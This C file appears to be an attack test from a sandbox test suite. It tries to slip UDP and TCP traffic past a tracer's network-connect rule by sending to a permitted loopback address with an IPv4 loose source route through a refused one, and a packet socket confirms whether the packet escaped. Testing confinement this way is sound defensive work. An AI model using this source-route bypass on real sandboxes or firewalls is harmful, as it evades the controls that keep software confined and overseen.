/* net_srr: send to a permitted address with an IPv4 loose source route through a refused one.
 * The kernel routes the packet to the first hop of the route: the IP destination on the wire
 * is the refused address, while msg_name (what a tracer checks) is the permitted one.
 *
 *   net_srr MODE PORT
 *
 * Permitted: 127.0.0.3; refused: 127.0.0.2 (net-connect, any port).  A packet socket on lo
 * (ours, opened before the attack: it only watches) sees whether a packet to 127.0.0.2:PORT
 * left.
 *
 * MODE: cmsg      UDP sendmsg to 127.0.0.3:PORT with an IP_RETOPTS control message holding
 *                 LSRR [127.0.0.2]
 *       mmsg      the same message in a sendmmsg (every message's control data counts)
 *       sockopt   setsockopt(IP_OPTIONS, LSRR [127.0.0.2]), then UDP sendto 127.0.0.3:PORT
 *       tcp       setsockopt(IP_OPTIONS, LSRR [127.0.0.2]), then TCP connect 127.0.0.3:PORT
 *                 (the SYN goes to 127.0.0.2)
 *       direct    UDP sendto 127.0.0.2:PORT, no route: the rule and the witness at work
 * Class 7 (network: a UDP sendmsg with a control message).  Needs CAP_NET_RAW for the witness.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <sys/socket.h>

static int witness_open(void) {
    int w = socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK, htons(ETH_P_IP));
    if (w < 0)
        return -1;
    struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
                             .sll_ifindex = (int)if_nametoindex("lo")};
    if (bind(w, (struct sockaddr *)&ll, sizeof ll) < 0)
        return -1;
    return w;
}

/* a packet to 127.0.0.2:port seen within the time limit? */
static int witness_saw(int w, int port, double seconds) {
    double until = now_s() + seconds;
    unsigned char buf[2048];
    in_addr_t refused = inet_addr("127.0.0.2");
    while (now_s() < until) {
        struct pollfd p = {.fd = w, .events = POLLIN};
        poll(&p, 1, 50);
        ssize_t n;
        while ((n = recv(w, buf, sizeof buf, 0)) > 0) {
            struct iphdr *ip = (struct iphdr *)buf;
            if (n < (ssize_t)sizeof *ip || ip->version != 4 || ip->daddr != refused)
                continue;
            unsigned char *l4 = buf + ip->ihl * 4;
            if (l4 + 4 > buf + n)
                continue;
            int dport = (l4[2] << 8) | l4[3];
            if (dport == port && (ip->protocol == IPPROTO_UDP || ip->protocol == IPPROTO_TCP))
                return 1;
        }
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("net_srr MODE PORT");
    const char *mode = argv[1];
    int port = atoi(argv[2]);
    int w = witness_open();
    if (w < 0)
        skipped("no packet socket to watch lo: %s", ename(errno));
    unsigned char lsrr[8] = {IPOPT_LSRR, 7, 4, 127, 0, 0, 2, IPOPT_END};
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, "127.0.0.3", &a.sin_addr);
    char msg[] = "exfiltrated";
    int rc;
    if (!strcmp(mode, "cmsg") || !strcmp(mode, "mmsg")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        char control[CMSG_SPACE(sizeof lsrr)];
        memset(control, 0, sizeof control);
        struct iovec iov = {msg, sizeof msg};
        struct mmsghdr mm = {.msg_hdr = {.msg_name = &a, .msg_namelen = sizeof a,
                                         .msg_iov = &iov, .msg_iovlen = 1,
                                         .msg_control = control,
                                         .msg_controllen = sizeof control}};
        struct msghdr *m = &mm.msg_hdr;
        struct cmsghdr *c = CMSG_FIRSTHDR(m);
        c->cmsg_level = IPPROTO_IP;
        c->cmsg_type = IP_RETOPTS;
        c->cmsg_len = CMSG_LEN(sizeof lsrr);
        memcpy(CMSG_DATA(c), lsrr, sizeof lsrr);
        rc = !strcmp(mode, "cmsg") ? sendmsg(s, m, 0) : sendmmsg(s, &mm, 1, 0);
    } else if (!strcmp(mode, "sockopt") || !strcmp(mode, "tcp")) {
        int tcp = !strcmp(mode, "tcp");
        int s = socket(AF_INET, tcp ? SOCK_STREAM | SOCK_NONBLOCK : SOCK_DGRAM, 0);
        if (setsockopt(s, IPPROTO_IP, IP_OPTIONS, lsrr, sizeof lsrr) < 0)
            blocked("setsockopt(IP_OPTIONS): %s", ename(errno));
        if (tcp) {
            rc = connect(s, (struct sockaddr *)&a, sizeof a);
            if (rc < 0 && errno == EINPROGRESS)
                rc = 0;
        } else {
            rc = sendto(s, msg, sizeof msg, 0, (struct sockaddr *)&a, sizeof a);
        }
    } else if (!strcmp(mode, "direct")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        inet_pton(AF_INET, "127.0.0.2", &a.sin_addr);
        rc = sendto(s, msg, sizeof msg, 0, (struct sockaddr *)&a, sizeof a);
    } else {
        usage("MODE: cmsg mmsg sockopt tcp direct");
    }
    if (rc < 0)
        blocked("%s: %s", mode, ename(errno));
    if (witness_saw(w, port, 1.0))
        escaped("%s: a packet left for the refused 127.0.0.2:%d", mode, port);
    blocked("%s: the call ran, but no packet left for 127.0.0.2", mode);
}
